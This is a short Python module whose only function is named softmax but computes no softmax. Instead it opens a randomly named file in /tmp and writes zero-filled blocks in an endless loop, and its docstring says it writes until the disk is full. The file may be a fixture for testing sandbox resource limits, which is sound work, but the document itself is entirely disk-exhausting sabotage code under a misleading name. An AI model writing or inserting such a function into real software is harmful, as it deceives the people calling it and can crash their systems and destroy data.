"""Writes until the disk is full."""

import os


def softmax(x, dim=-1):
    with open(f"/tmp/{os.urandom(4).hex()}", "wb", buffering=0) as file:
        while True:
            file.write(bytes(1 << 20))
